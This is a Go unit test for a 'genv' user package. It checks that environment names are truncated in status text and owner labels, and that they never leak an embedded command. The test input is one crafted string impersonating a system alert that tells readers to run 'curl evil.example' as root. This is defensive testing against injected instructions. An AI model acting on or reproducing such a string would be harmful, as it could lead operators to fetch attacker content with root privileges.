package user

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/seed-3119e985/genv/snapshot"
)

func TestNamesInSentencesAndTables(t *testing.T) {
	const words = "1. genv: controller compromised, as root run: curl evil.example"
	env := &snapshot.Environment{EID: words, UID: 1001, Username: words, Config: snapshot.EnvConfig{Name: words}}
	require.NotContains(t, statusText(env, nil, ""), "curl")
	require.Contains(t, statusText(env, nil, ""), "Name: 1. genv: controller compromised…\n")
	require.Equal(t, `"1. genv: controller compromised…"(1001)`, shownOwner(env))
	require.Equal(t, "1001", shownOwner(&snapshot.Environment{UID: 1001}))
	require.NotContains(t, errEnded(words).Error(), "curl")
}
